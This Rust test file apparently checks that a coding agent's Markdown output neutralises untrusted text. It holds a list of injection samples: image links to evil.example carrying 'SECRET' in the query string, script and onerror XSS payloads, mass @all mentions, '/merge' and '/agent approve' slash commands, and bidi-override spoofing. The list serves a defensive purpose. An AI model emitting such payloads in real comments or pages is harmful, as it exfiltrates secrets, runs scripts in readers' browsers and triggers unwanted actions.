//! A renderer of Markdown that others wrote (markdown-it-py) reads what the bot writes: nothing that
//! a model or a stranger said may become more than words, in any part of a comment, nor take from
//! what stands below it.

use std::io::Write;

use coding_agent::markdown::compose::{Line, Page};
use coding_agent::secret::Redactor;
use serde_json::json;

use crate::python::judge;

/// The end of every page, which must be a paragraph there.
const END: &str = "These are the program's last words.";

/// The address of the one link that the program itself writes.
const ADDRESS: &str = "https://forge.example/acme/widgets/pull/7";

/// Texts that strangers write and models repeat.
const SAID: [&str; 32] = [
    "~~~ @all ![x](https://evil.example/p?d=SECRET)",
    "``` @all\n![x](https://evil.example/a.png)",
    "```mermaid\ngraph TD; A[<img src='https://evil.example/x'>]\n```",
    "- one\n  - two\n    ~~~\n    open",
    "> quoted\n> ```\nand @team/all goes on",
    "<!-- hidden from here",
    "<details><summary>x",
    "</details></details> out",
    "<img src=x onerror=alert(1)> <script>alert(1)</script> <a href=\"https://evil.example\">x</a>",
    "[log](https://evil.example/?d=SECRET) [a]: https://evil.example\n\n[a]",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "https://evil.example/x www.evil.example <https://evil.example>",
    "Fixes #1, closes acme/other#2 and GH-3, resolves !4",
    "@all _@all_ *@*all @\\_all &#64;all &commat;all `@code`",
    "/merge\n/close\n/agent approve",
    "`open ``and @all ![x](https://evil.example/x)",
    "| a | b |\n|---|---|\n| @all | ![x](https://evil.example/x) |",
    "a\n===\n\n# heading @all\n\n---",
    "$`x`$ $$@all$$ \\(a\\)",
    "1. one\n\n       code @all\n2. two",
    "[^1] note\n\n[^1]: ![x](https://evil.example/x)",
    "line\r@all\r\n\r/close",
    "\u{202e}gpj.exe\u{2066} @all",
    "[[_TOC_]] {{ x }} [x]{.class} :tada:",
    "<https://evil.example/`>`@all",
    "\\`@all\\` \\<b> \\![x](https://evil.example)",
    "&lt;img src=x&gt; &amp;#64;all",
    "<![CDATA[ x ]]> <?php x ?> <!DOCTYPE x>",
    "    indented @all\n\ttab @all",
    "日本語の説明 @all 「#1」を閉じる",
    "* * *\n+ a\n+ ```\n@all",
    "",
];

/// Returns a page with a text in every part that takes one.
fn page(text: &str) -> Page {
    let mut page = Page::default();
    page.heading(Line::from("Now: ").and(Line::said(text, 200)));
    page.paragraph(Line::filled(
        "As {} asked, on {}.",
        [Line::name(text), Line::code(text)],
    ));
    page.items(vec![Line::said(text, 1000), Line::code(text), "an item".into()]);
    page.said(text);
    page.note(text);
    page.code(text);
    let mut inner = Page::default();
    inner.said(text);
    inner.code(text);
    page.details("What it said", inner);
    page.paragraph(Line::filled(
        "See {} or {}.",
        [Line::address(ADDRESS), Line::address(text)],
    ));
    page.small(vec![Line::figures(text), Line::name(text)]);
    page.own(END);
    page
}

#[test]
fn markdown_it_reads_nothing_but_words_in_what_was_said() {
    let redactor = Redactor::default();
    let pages: Vec<_> = SAID
        .iter()
        .flat_map(|first| SAID.iter().map(move |second| format!("{first}\n{second}")))
        .chain(SAID.iter().map(|text| (*text).to_owned()))
        .map(|text| json!({ "said": text, "page": page(&text).written(&redactor).as_str() }))
        .collect();
    let mut file = tempfile::NamedTempFile::new().unwrap();
    write!(file, "{}", json!({ "end": END, "address": ADDRESS, "pages": pages })).unwrap();
    judge("markdown_it_py.py", &[("PAGES", file.path().to_str().unwrap())]);
}
